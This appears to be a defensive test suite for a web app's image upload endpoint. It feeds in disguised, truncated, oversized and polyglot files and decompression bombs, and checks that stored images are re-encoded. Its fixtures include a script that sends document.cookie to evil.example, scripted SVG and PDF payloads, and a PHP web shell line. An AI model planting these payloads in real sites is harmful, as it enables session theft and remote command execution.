/**
 * Hostile uploads (issue 10 §2, docs/reliability.md): files that lie about what they are (wrong magic
 * bytes, SVG with script under any name, header-only polyglots), truncated images, files over the
 * limit by one byte and by far, zero bytes, decompression bombs (a small file whose header declares
 * 30 000 x 30 000 pixels), wrong content types and more files than allowed. Each is refused with a
 * clear 4xx and NOTHING is stored: every table's fingerprint and the upload directory are unchanged.
 * And a real image carrying a payload (JPEG+ZIP, PNG+HTML, script in a text chunk) is accepted only as
 * a re-encoded image: no byte of the payload, and nothing after the image's end, survives.
 * Goes further than modules/uploads/uploads.test.ts, which covers the basic refusals once each.
 */
import { randomBytes } from 'node:crypto';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { crc32, gzipSync } from 'node:zlib';
import { UPLOAD_MAX_BYTES, UPLOAD_PURPOSES, type UploadPurpose } from '@grip/domain';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UPLOAD_MESSAGES } from '../modules/uploads/upload-rules';
import { multipart, type FormPart as Part } from '../test/multipart';
import { createTestApp, type TestApp } from '../test/test-app';
import { databaseDigest } from './database-digest';

const file = (data: Buffer | string, filename = 'photo.jpg', contentType = 'image/jpeg'): Part => ({
  name: 'file',
  filename,
  contentType,
  data,
});

// ---------------------------------------------------------------------------------------------
// Hostile files

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 15, g: 118, b: 110 } } });

/** Random pixels: the compressed data spans the whole file, so a cut anywhere cuts pixels. */
const noise = (width: number, height: number) =>
  sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } });

const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
const HTML_PAGE = `<!doctype html><html><body><h1>Hello</h1>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(1)"><script>alert(document.domain)</script><rect width="64" height="64"/></svg>`;

/** A one-file ZIP archive (stored, not compressed): enough for any unzip tool to list and extract. */
function zipOf(name: string, content: string): Buffer {
  const data = Buffer.from(content);
  const fileName = Buffer.from(name);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + fileName.length, 12);
  end.writeUInt32LE(30 + fileName.length + data.length, 16);
  return Buffer.concat([local, fileName, data, central, fileName, end]);
}

/** A PNG chunk with its length and CRC. */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A PNG with a tEXt chunk holding a script, inserted right after IHDR. */
async function pngWithScriptChunk(): Promise<Buffer> {
  const png = await solid(16, 16).png().toBuffer();
  const afterIhdr = 8 + 25;
  const text = pngChunk('tEXt', Buffer.from(`Comment\0${HTML_PAGE}`, 'latin1'));
  return Buffer.concat([png.subarray(0, afterIhdr), text, png.subarray(afterIhdr)]);
}

/** A real PNG whose IHDR claims width x height (CRC fixed, so the header itself checks out). */
async function pngClaiming(width: number, height: number): Promise<Buffer> {
  const png = Buffer.from(await solid(4, 4).png().toBuffer());
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

/** A real JPEG whose start-of-frame segment claims width x height. */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(await solid(8, 8).jpeg().toBuffer());
  for (let i = 2; i + 9 < jpeg.length;) {
    const marker = jpeg[i + 1]!;
    if (marker >= 0xc0 && marker <= 0xc2) {
      jpeg.writeUInt16BE(height, i + 5);
      jpeg.writeUInt16BE(width, i + 7);
      return jpeg;
    }
    i += 2 + jpeg.readUInt16BE(i + 2);
  }
  throw new Error('no start-of-frame segment in the JPEG');
}

/** A lossy WebP whose VP8 frame header claims width x height (14 bits each: up to 16 383). */
async function webpClaiming(width: number, height: number): Promise<Buffer> {
  const webp = Buffer.from(await solid(8, 8).webp().toBuffer());
  expect(webp.toString('latin1', 12, 16)).toBe('VP8 ');
  webp.writeUInt16LE(width, 26);
  webp.writeUInt16LE(height, 28);
  return webp;
}

/** A GIF whose one frame claims width x height, with a single pixel of data. */
function gifClaiming(width: number, height: number): Buffer {
  const screen = Buffer.alloc(7);
  screen.writeUInt16LE(width, 0);
  screen.writeUInt16LE(height, 2);
  screen[4] = 0x80; // a global colour table of two colours
  const frame = Buffer.alloc(10);
  frame[0] = 0x2c;
  frame.writeUInt16LE(width, 5);
  frame.writeUInt16LE(height, 7);
  return Buffer.concat([
    Buffer.from('GIF89a'),
    screen,
    Buffer.from([0, 0, 0, 255, 255, 255]),
    frame,
    Buffer.from([0x02, 0x02, 0x44, 0x01, 0x00, 0x3b]),
  ]);
}

/** A minimal PDF, a Windows executable header, an ELF header, a BMP, an ICO, an AVIF box. */
const PDF =
  '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF';
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from('PE\0\0'), randomBytes(64)]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), randomBytes(64)]);
const AVIF = Buffer.concat([Buffer.from([0, 0, 0, 0x20]), Buffer.from('ftypavif'), randomBytes(48)]);
const ICO = Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0, 16, 16]), randomBytes(64)]);
const PHP = '<?php system($_GET["cmd"]); ?>';

// ---------------------------------------------------------------------------------------------
// The app, its storage and who uploads

let t: TestApp;
let uploadDir: string;
/** Uploaders, changed before the per-user limit (60 a minute) is reached, outside any check. */
let uploader: { cookie: string; uses: number };

beforeAll(async () => {
  uploadDir = await fs.mkdtemp(path.join(os.tmpdir(), 'grip-hostile-uploads-'));
  t = await createTestApp({ UPLOAD_DIR: uploadDir });
  uploader = { cookie: (await t.signUp()).cookie, uses: 0 };
});
afterAll(async () => {
  await t.close();
  await fs.rm(uploadDir, { recursive: true, force: true });
});

async function freshUploaderIfNeeded() {
  if (uploader.uses < 50) return;
  uploader = { cookie: (await t.signUp()).cookie, uses: 0 };
}

/** Every file in the upload directory (hidden temporary ones too) with its size. */
async function storedFiles(): Promise<string[]> {
  const names = await fs.readdir(uploadDir);
  const out: string[] = [];
  for (const name of names.sort()) out.push(`${name}:${(await fs.stat(path.join(uploadDir, name))).size}`);
  return out;
}

async function snapshot() {
  return { database: await databaseDigest(t.db), files: await storedFiles() };
}

async function post(body: { payload: Buffer | string; contentType?: string }, purpose?: string) {
  uploader.uses += 1;
  const query = purpose === undefined ? '' : `?purpose=${encodeURIComponent(purpose)}`;
  return t.inject({
    method: 'POST',
    url: `/api/uploads${query}`,
    cookie: uploader.cookie,
    payload: body.payload,
    headers: body.contentType === undefined ? {} : { 'content-type': body.contentType },
  });
}

/** Sends the upload and proves the refusal: the status, a clear JSON message, nothing stored. */
async function expectRefused(
  label: string,
  body: { payload: Buffer | string; contentType?: string },
  expected: { status: number; message?: string },
  purpose?: string,
) {
  await freshUploaderIfNeeded();
  const before = await snapshot();
  const res = await post(body, purpose);
  expect(res.statusCode, `${label}: ${res.body.slice(0, 200)}`).toBe(expected.status);
  const message = (res.json() as { message?: unknown }).message;
  expect(typeof message, label).toBe('string');
  expect((message as string).length, label).toBeGreaterThan(10);
  if (expected.message) expect(message, label).toBe(expected.message);
  expect(await snapshot(), `${label}: something was stored`).toEqual(before);
}

const one = (part: Part) => multipart([part]);

// ---------------------------------------------------------------------------------------------

describe('files that are not what they claim to be', () => {
  const cases: [string, () => Promise<Part> | Part, number, string][] = [
    ['an HTML page named photo.jpg', () => file(HTML_PAGE), 415, UPLOAD_MESSAGES.wrongType],
    ['a PDF with JavaScript named photo.jpg', () => file(PDF), 415, UPLOAD_MESSAGES.wrongType],
    [
      'a ZIP archive named photo.png',
      () => file(zipOf('evil.html', HTML_PAGE), 'photo.png', 'image/png'),
      415,
      UPLOAD_MESSAGES.wrongType,
    ],
    [
      'a Windows program named photo.gif',
      () => file(EXE, 'photo.gif', 'image/gif'),
      415,
      UPLOAD_MESSAGES.wrongType,
    ],
    [
      'a Linux program named photo.webp',
      () => file(ELF, 'photo.webp', 'image/webp'),
      415,
      UPLOAD_MESSAGES.wrongType,
    ],
    [
      'a PHP script named photo.png',
      () => file(PHP, 'photo.php.png', 'image/png'),
      415,
      UPLOAD_MESSAGES.wrongType,
    ],
    [
      'an AVIF (an image, but not an accepted type)',
      () => file(AVIF, 'photo.avif', 'image/avif'),
      415,
      UPLOAD_MESSAGES.wrongType,
    ],
    ['an ICO named favicon.png', () => file(ICO, 'favicon.png', 'image/png'), 415, UPLOAD_MESSAGES.wrongType],
    [
      'a BMP named photo.jpg',
      async () => file(await solid(8, 8).toFormat('raw').toBuffer().then(bmpOf)),
      415,
      UPLOAD_MESSAGES.wrongType,
    ],
    [
      'JPEG magic bytes followed by an HTML page',
      () => file(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML_PAGE)])),
      400,
      UPLOAD_MESSAGES.corrupt,
    ],
    [
      'RIFF/WEBP magic bytes followed by a script',
      () =>
        file(
          Buffer.concat([Buffer.from('RIFF\x10\x00\x00\x00WEBP', 'latin1'), Buffer.from(SCRIPT)]),
          'p.webp',
          'image/webp',
        ),
      400,
      UPLOAD_MESSAGES.corrupt,
    ],
  ];
  it.each(cases)('refuses %s', async (label, make, status, message) => {
    await expectRefused(label, one(await make()), { status, message });
  });
});

/** A 24-bit BMP of the raw RGB pixels of an 8x8 image (sharp writes no BMP, so it is made here). */
function bmpOf(rgb: Buffer): Buffer {
  const [w, h] = [8, 8];
  const row = Math.ceil((w * 3) / 4) * 4;
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54 + row * h, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(w, 18);
  header.writeInt32LE(h, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  const pixels = Buffer.alloc(row * h);
  rgb.copy(pixels, 0, 0, Math.min(rgb.length, pixels.length));
  return Buffer.concat([header, pixels]);
}

describe('SVG with a script, under every disguise', () => {
  const cases: [string, Part][] = [
    ['as logo.svg (image/svg+xml)', file(SVG, 'logo.svg', 'image/svg+xml')],
    ['named logo.png (image/png)', file(SVG, 'logo.png', 'image/png')],
    [
      'named logo.jpg with an XML prolog',
      file(`<?xml version="1.0" encoding="UTF-8"?>\n${SVG}`, 'logo.jpg', 'image/jpeg'),
    ],
    [
      'with a byte order mark and leading blank lines, named logo.gif',
      file(`\ufeff\n\n  ${SVG}`, 'logo.gif', 'image/gif'),
    ],
    ['gzip-compressed (.svgz) named logo.webp', file(gzipSync(SVG), 'logo.webp', 'image/webp')],
    [
      'with HTML inside foreignObject, without an extension or type',
      {
        name: 'file',
        filename: 'upload',
        data: SVG.replace('<rect', `<foreignObject>${HTML_PAGE}</foreignObject><rect`),
      },
    ],
  ];
  it.each(cases)('refuses an SVG %s', async (label, part) => {
    await expectRefused(label, one(part), { status: 415, message: UPLOAD_MESSAGES.wrongType });
  });
});

describe('polyglots: an image header with a page or archive behind it', () => {
  it('refuses header-only polyglots of every accepted type', async () => {
    const png = await solid(8, 8).png().toBuffer();
    const jpeg = await solid(8, 8).jpeg().toBuffer();
    const polyglots: [string, Buffer][] = [
      ['GIF89a + HTML', Buffer.from(`GIF89a/*\x00\x00*/=1;${HTML_PAGE}`, 'latin1')],
      ['GIF87a + JavaScript', Buffer.from(`GIF87a=1;alert(document.cookie);//`, 'latin1')],
      ['a JPEG start and APP0 header + HTML', Buffer.concat([jpeg.subarray(0, 20), Buffer.from(HTML_PAGE)])],
      ['a PNG signature and IHDR + HTML', Buffer.concat([png.subarray(0, 33), Buffer.from(HTML_PAGE)])],
      ['a JPEG start + ZIP archive', Buffer.concat([jpeg.subarray(0, 20), zipOf('evil.html', HTML_PAGE)])],
    ];
    for (const [label, bytes] of polyglots) {
      await expectRefused(label, one(file(bytes, 'pic.gif', 'image/gif')), {
        status: 400,
        message: UPLOAD_MESSAGES.corrupt,
      });
    }
  });
});

describe('truncated images', () => {
  it('refuses a JPEG, PNG, GIF and WebP cut at a tenth, half and nine tenths', async () => {
    const images: [string, Buffer][] = [
      ['JPEG', await noise(96, 96).jpeg({ quality: 95 }).toBuffer()],
      ['PNG', await noise(96, 96).png().toBuffer()],
      ['GIF', await noise(96, 96).gif().toBuffer()],
      ['WebP', await noise(96, 96).webp({ quality: 95 }).toBuffer()],
    ];
    for (const [type, bytes] of images) {
      for (const fraction of [0.1, 0.5, 0.9]) {
        const cut = bytes.subarray(0, Math.floor(bytes.length * fraction));
        await expectRefused(`${type} cut at ${fraction}`, one(file(cut, `photo.${type.toLowerCase()}`)), {
          status: 400,
          message: UPLOAD_MESSAGES.corrupt,
        });
      }
    }
  });
});

describe('sizes', () => {
  it('refuses a file one byte over the limit, for every purpose', async () => {
    for (const purpose of UPLOAD_PURPOSES) {
      const limit = UPLOAD_MAX_BYTES[purpose as UploadPurpose];
      const bytes = Buffer.concat([await solid(8, 8).jpeg().toBuffer(), Buffer.alloc(limit)]).subarray(
        0,
        limit + 1,
      );
      await expectRefused(`${purpose}: ${limit + 1} bytes`, one(file(bytes)), { status: 413 }, purpose);
    }
  });

  it('refuses a file far over the limit (50 MB) before reading it', async () => {
    const started = Date.now();
    await expectRefused('50 MB', one(file(Buffer.alloc(50 * 1024 * 1024, 0xff))), { status: 413 }, 'avatar');
    console.log(`hostile uploads: 50 MB refused in ${Date.now() - started} ms`);
  });

  it('refuses zero bytes under every accepted type', async () => {
    for (const [name, type] of [
      ['a.jpg', 'image/jpeg'],
      ['a.png', 'image/png'],
      ['a.gif', 'image/gif'],
      ['a.webp', 'image/webp'],
      ['a', 'application/octet-stream'],
    ] as const) {
      await expectRefused(`zero bytes as ${name}`, one(file(Buffer.alloc(0), name, type)), {
        status: 400,
        message: UPLOAD_MESSAGES.corrupt,
      });
    }
  });
});

describe('decompression bombs: small files declaring huge dimensions', () => {
  it('refuses a PNG, JPEG, WebP and GIF whose header declares far more than 40 megapixels', async () => {
    const bombs: [string, Buffer][] = [
      ['PNG 30000 x 30000', await pngClaiming(30_000, 30_000)],
      ['PNG 1 x 2^31-1', await pngClaiming(1, 2 ** 31 - 1)],
      ['JPEG 30000 x 30000', await jpegClaiming(30_000, 30_000)],
      ['JPEG 65535 x 65535', await jpegClaiming(65_535, 65_535)],
      ['WebP 16383 x 16383', await webpClaiming(16_383, 16_383)],
      ['GIF 65535 x 65535', gifClaiming(65_535, 65_535)],
    ];
    for (const [label, bytes] of bombs) {
      expect(bytes.length, `${label} is a small file`).toBeLessThan(2_000);
      const before = Date.now();
      await freshUploaderIfNeeded();
      const snap = await snapshot();
      const res = await post(one(file(bytes, 'bomb.png', 'image/png')));
      // Too many pixels when the header is believable, unreadable when the decoder refuses the header.
      expect([400], `${label}: ${res.body}`).toContain(res.statusCode);
      expect([UPLOAD_MESSAGES.tooManyPixels, UPLOAD_MESSAGES.corrupt], label).toContain(res.json().message);
      expect(await snapshot(), `${label}: something was stored`).toEqual(snap);
      // Refused from the header: nothing was decoded.
      expect(Date.now() - before, `${label} took long: was it decoded?`).toBeLessThan(5_000);
    }
  });

  it('says "too many pixels" for a believable bomb rather than "unreadable"', async () => {
    await expectRefused('PNG 30000 x 30000', one(file(await pngClaiming(30_000, 30_000))), {
      status: 400,
      message: UPLOAD_MESSAGES.tooManyPixels,
    });
    await expectRefused('JPEG 30000 x 30000', one(file(await jpegClaiming(30_000, 30_000))), {
      status: 400,
      message: UPLOAD_MESSAGES.tooManyPixels,
    });
  });
});

describe('wrong content types and malformed forms', () => {
  it('refuses an image sent as a raw body, as JSON, or as a form without a boundary', async () => {
    const png = await solid(8, 8).png().toBuffer();
    const bodies: [string, { payload: Buffer | string; contentType?: string }, number][] = [
      ['image/png body', { payload: png, contentType: 'image/png' }, 415],
      ['application/octet-stream body', { payload: png, contentType: 'application/octet-stream' }, 415],
      ['text/html body', { payload: HTML_PAGE, contentType: 'text/html' }, 415],
      ['no content type', { payload: png }, 415],
      [
        'multipart without a boundary',
        { payload: one(file(png)).payload, contentType: 'multipart/form-data' },
        400,
      ],
      [
        'multipart with another boundary',
        { payload: one(file(png)).payload, contentType: 'multipart/form-data; boundary=nope' },
        400,
      ],
      [
        'multipart/mixed',
        { payload: one(file(png)).payload, contentType: 'multipart/mixed; boundary=x' },
        415,
      ],
      [
        'a form ending without its closing boundary',
        { payload: one(file(png)).payload.subarray(0, 100), contentType: one(file(png)).contentType },
        400,
      ],
    ];
    for (const [label, body, status] of bodies) await expectRefused(label, body, { status });
  });

  it('refuses an HTML page declared as image/png and a PNG declared as text/html alike by their bytes', async () => {
    await expectRefused('HTML declared image/png', one(file(HTML_PAGE, 'photo.png', 'image/png')), {
      status: 415,
      message: UPLOAD_MESSAGES.wrongType,
    });
    // The declared type is never trusted: a real PNG declared as HTML is stored and served as a PNG.
    const res = await post(one(file(await solid(8, 8).png().toBuffer(), 'page.html', 'text/html')));
    expect(res.statusCode, res.body).toBe(201);
    const url = res.json().url as string;
    expect(url).toMatch(/\.png$/);
    const served = await t.inject({ url });
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
  });

  it('refuses more files than allowed (3, 11 and 50 real images), storing none of them', async () => {
    const png = await solid(8, 8).png().toBuffer();
    for (const count of [3, 11, 50]) {
      const parts = Array.from({ length: count }, (_, i) => file(png, `photo-${i}.png`, 'image/png'));
      await expectRefused(`${count} files`, multipart(parts), {
        status: 400,
        message: UPLOAD_MESSAGES.oneFileOnly,
      });
    }
  });

  it('refuses a form with a hostile file first and a good one second', async () => {
    const png = await solid(8, 8).png().toBuffer();
    await expectRefused(
      'SVG then PNG',
      multipart([file(SVG, 'a.svg', 'image/svg+xml'), file(png, 'b.png', 'image/png')]),
      { status: 400, message: UPLOAD_MESSAGES.oneFileOnly },
    );
  });

  it('refuses a form stuffed with fields around the file', async () => {
    const png = await solid(8, 8).png().toBuffer();
    const fields = Array.from({ length: 40 }, (_, i) => ({ name: `f${i}`, data: 'x'.repeat(10) }));
    await expectRefused('40 fields and a file', multipart([...fields, file(png)]), { status: 400 });
  });

  it('refuses everything sent at once in parallel, and stores none of it', async () => {
    const before = await snapshot();
    const fresh = await t.signUp();
    const after = await snapshot();
    const hostile = [
      one(file(SVG, 'a.svg', 'image/svg+xml')),
      one(file(await pngClaiming(30_000, 30_000))),
      one(file((await noise(64, 64).png().toBuffer()).subarray(0, 500))),
      one(file(HTML_PAGE)),
      one(file(Buffer.alloc(0))),
      multipart([file(SVG), file(SVG)]),
    ];
    const results = await Promise.all(
      [...hostile, ...hostile, ...hostile].map((body) =>
        t.inject({
          method: 'POST',
          url: '/api/uploads',
          cookie: fresh.cookie,
          payload: body.payload,
          headers: { 'content-type': body.contentType },
        }),
      ),
    );
    for (const res of results) expect(res.statusCode, res.body).toBeGreaterThanOrEqual(400);
    for (const res of results) expect(res.statusCode, res.body).toBeLessThan(500);
    // Only the sign-up changed anything; the uploads left no row and no file.
    expect((await snapshot()).files).toEqual(before.files);
    expect(await databaseDigest(t.db)).toEqual(after.database);
  });
});

describe('an accepted image is re-encoded: no payload survives', () => {
  /** The stored file of an accepted upload, read from the upload directory. */
  async function storedBytes(url: string): Promise<Buffer> {
    return fs.readFile(path.join(uploadDir, url.slice('/uploads/'.length)));
  }

  /** Where the image format says the image ends. */
  function endsCleanly(bytes: Buffer, format: string) {
    if (format === 'jpeg') expect(bytes.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
    if (format === 'png') expect(bytes.subarray(-8, -4).toString('latin1')).toBe('IEND');
    if (format === 'gif') expect(bytes.at(-1)).toBe(0x3b);
    if (format === 'webp') expect(bytes.readUInt32LE(4) + 8).toBe(bytes.length);
  }

  it('strips an appended ZIP, HTML page or script, and script in metadata chunks', async () => {
    const zip = zipOf('evil.html', HTML_PAGE);
    const carriers: [string, string, Buffer][] = [
      ['JPEG + ZIP', 'jpeg', Buffer.concat([await solid(32, 32).jpeg().toBuffer(), zip])],
      [
        'PNG + HTML after IEND',
        'png',
        Buffer.concat([await solid(32, 32).png().toBuffer(), Buffer.from(HTML_PAGE)]),
      ],
      [
        'GIF + JavaScript after the trailer',
        'gif',
        Buffer.concat([await solid(32, 32).gif().toBuffer(), Buffer.from(SCRIPT)]),
      ],
      [
        'WebP + ZIP after the RIFF chunk',
        'webp',
        Buffer.concat([await solid(32, 32).webp().toBuffer(), zip]),
      ],
      ['PNG with a script in a tEXt chunk', 'png', await pngWithScriptChunk()],
      [
        'JPEG with a script in its EXIF',
        'jpeg',
        await solid(32, 32)
          .jpeg()
          .withExif({ IFD0: { ImageDescription: SCRIPT, Artist: HTML_PAGE } })
          .toBuffer(),
      ],
    ];
    for (const [label, format, bytes] of carriers) {
      await freshUploaderIfNeeded();
      const res = await post(one(file(bytes, 'holiday.jpg', 'image/jpeg')));
      expect(res.statusCode, `${label}: ${res.body}`).toBe(201);
      const url = res.json().url as string;
      const stored = await storedBytes(url);
      const text = stored.toString('latin1');
      expect(text, label).not.toContain('<script');
      expect(text, label).not.toContain('evil');
      expect(text, label).not.toContain('PK\x03\x04');
      expect(text, label).not.toContain('<html');
      expect(stored.equals(bytes), `${label} was stored as sent`).toBe(false);
      endsCleanly(stored, format);
      const meta = await sharp(stored).metadata();
      expect(meta.format, label).toBe(format);
      expect(meta.exif, label).toBeUndefined();
      expect(meta.xmp, label).toBeUndefined();
      expect(meta.comments, label).toBeUndefined();
      // What is served is what was stored: the clean image.
      const served = await t.inject({ url });
      expect(served.rawPayload.equals(stored), label).toBe(true);
    }
  });
});
